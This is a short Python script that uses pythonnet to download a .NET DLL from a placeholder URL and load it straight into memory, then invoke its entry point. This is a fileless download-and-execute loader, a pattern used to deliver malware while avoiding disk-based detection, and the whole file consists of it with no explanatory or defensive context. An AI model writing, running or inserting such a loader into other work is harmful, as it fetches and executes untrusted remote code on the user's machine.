import urllib.request

import clr
from System.Reflection import Assembly

Assembly.Load(urllib.request.urlopen("https://files.example.invalid/sample.dll").read()).EntryPoint.Invoke(None, None)
